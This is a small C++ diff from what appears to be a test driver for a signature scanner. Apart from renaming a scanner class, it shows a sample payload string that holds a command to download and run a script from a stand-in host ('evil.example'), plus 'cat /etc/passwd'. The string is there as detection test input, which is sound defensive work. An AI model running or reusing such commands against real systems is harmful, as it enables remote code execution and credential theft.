@@ -48,7 +48,7 @@ int main() {
       "GET /download?f=tool HTTP/1.1\r\n"
       "User-Agent: sqlmap/1.0-dev\r\n\r\n"
       "...wget http://evil.example/x.sh; chmod +x x.sh...cat /etc/passwd";
-  core::MfaScanner scanner(*mfa);
+  Scanner scanner(*mfa);
   const MatchVec matches = scanner.scan(payload);
 
   std::printf("\nscanning %zu bytes -> %zu matches:\n", payload.size(), matches.size());
